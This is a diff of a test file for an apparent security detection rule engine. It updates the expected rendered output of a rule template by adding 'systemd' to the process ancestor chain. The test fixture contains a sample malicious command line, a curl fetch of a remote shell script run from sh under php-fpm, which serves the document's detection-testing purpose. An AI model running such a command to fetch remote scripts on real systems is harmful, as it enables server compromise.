@@ -485,7 +485,7 @@ rules:
 describe('rule language: output templates', () => {
   it('renders fields, arrays and <na> for missing fields', () => {
     const set = load(ruleYaml('process.name = curl', '    output: "{process.executable} by {process.parent.name} args={process.args} ancestors={ancestor.name} code={process.exit_code} {{literal}}"\n'));
-    assert.equal(set.match(exec)[0]?.output, '/usr/bin/curl by sh args=curl -s http://203.0.113.7/x.sh ancestors=sh php-fpm8.2 code=<na> {literal}');
+    assert.equal(set.match(exec)[0]?.output, '/usr/bin/curl by sh args=curl -s http://203.0.113.7/x.sh ancestors=sh php-fpm8.2 systemd code=<na> {literal}');
   });
 
   it('renders the text after a bar for a field the event lacks, and the field where it has it', () => {
